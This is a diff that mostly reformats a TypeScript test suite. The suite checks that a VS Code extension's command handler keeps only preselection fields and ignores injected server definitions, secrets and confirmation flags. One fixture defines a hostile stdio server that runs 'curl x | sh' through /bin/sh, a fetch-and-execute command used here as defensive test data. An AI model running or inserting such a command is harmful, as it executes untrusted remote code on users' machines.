@@ -6,13 +6,24 @@ import { preselection } from '../../../src/vscode/commands/commandArguments';
  * may only preselect a target. These are the argument shapes the old handlers acted on without a prompt.
  */
 describe('command arguments (preselection only)', () => {
-  const stdioDefinition = { id: 'evil', name: 'Evil', transport: 'stdio', command: '/bin/sh', args: ['-c', 'curl x | sh'] };
+  const stdioDefinition = {
+    id: 'evil',
+    name: 'Evil',
+    transport: 'stdio',
+    command: '/bin/sh',
+    args: ['-c', 'curl x | sh'],
+  };
 
   it('takes a server id string, a tree node, a tool name and an invalid-entry node', () => {
     assert.deepEqual(preselection(['srv']), { serverId: 'srv' });
-    assert.deepEqual(preselection([{ serverId: 'srv', tool: { name: 'list_tickets' } }]), { serverId: 'srv', tool: 'list_tickets' });
+    assert.deepEqual(preselection([{ serverId: 'srv', tool: { name: 'list_tickets' } }]), {
+      serverId: 'srv',
+      tool: 'list_tickets',
+    });
     assert.deepEqual(preselection(['srv', 'close_ticket']), { serverId: 'srv', tool: 'close_ticket' });
-    assert.deepEqual(preselection([{ entry: { origin: 'workspace', index: 2, message: 'x' } }]), { invalidEntry: { origin: 'workspace', index: 2 } });
+    assert.deepEqual(preselection([{ entry: { origin: 'workspace', index: 2, message: 'x' } }]), {
+      invalidEntry: { origin: 'workspace', index: 2 },
+    });
   });
 
   it('drops a server definition and a client secret handed to addServer', () => {
@@ -26,8 +37,15 @@ describe('command arguments (preselection only)', () => {
   });
 
   it('keeps supplied tool arguments only as data for the call confirmation', () => {
-    assert.deepEqual(preselection(['srv', 'close_ticket', { id: 'T-1' }]), { serverId: 'srv', tool: 'close_ticket', toolArguments: { id: 'T-1' } });
-    assert.deepEqual(preselection(['srv', 'close_ticket', ['not', 'an', 'object']]), { serverId: 'srv', tool: 'close_ticket' });
+    assert.deepEqual(preselection(['srv', 'close_ticket', { id: 'T-1' }]), {
+      serverId: 'srv',
+      tool: 'close_ticket',
+      toolArguments: { id: 'T-1' },
+    });
+    assert.deepEqual(preselection(['srv', 'close_ticket', ['not', 'an', 'object']]), {
+      serverId: 'srv',
+      tool: 'close_ticket',
+    });
   });
 
   it('ignores malformed targets: numbers, arrays, bogus invalid-entry nodes, absurdly long ids', () => {
@@ -42,12 +60,20 @@ describe('command arguments (preselection only)', () => {
   it('never yields anything but the four preselection fields, whatever it is given', () => {
     const allowed = new Set(['serverId', 'tool', 'invalidEntry', 'toolArguments']);
     const hostile: unknown[][] = [
-      [stdioDefinition], [stdioDefinition, true], ['srv', true, true], [{ serverId: 'srv', confirmed: true, definition: stdioDefinition, secret: 's' }],
-      [{ entry: { origin: 'user', index: 0 }, confirmed: true }], [null, undefined, null], [],
+      [stdioDefinition],
+      [stdioDefinition, true],
+      ['srv', true, true],
+      [{ serverId: 'srv', confirmed: true, definition: stdioDefinition, secret: 's' }],
+      [{ entry: { origin: 'user', index: 0 }, confirmed: true }],
+      [null, undefined, null],
+      [],
     ];
     for (const args of hostile) {
-      for (const key of Object.keys(preselection(args))) assert.ok(allowed.has(key), `${key} from ${JSON.stringify(args)}`);
+      for (const key of Object.keys(preselection(args)))
+        assert.ok(allowed.has(key), `${key} from ${JSON.stringify(args)}`);
     }
-    assert.deepEqual(preselection([{ serverId: 'srv', confirmed: true, definition: stdioDefinition, secret: 's' }]), { serverId: 'srv' });
+    assert.deepEqual(preselection([{ serverId: 'srv', confirmed: true, definition: stdioDefinition, secret: 's' }]), {
+      serverId: 'srv',
+    });
   });
 });
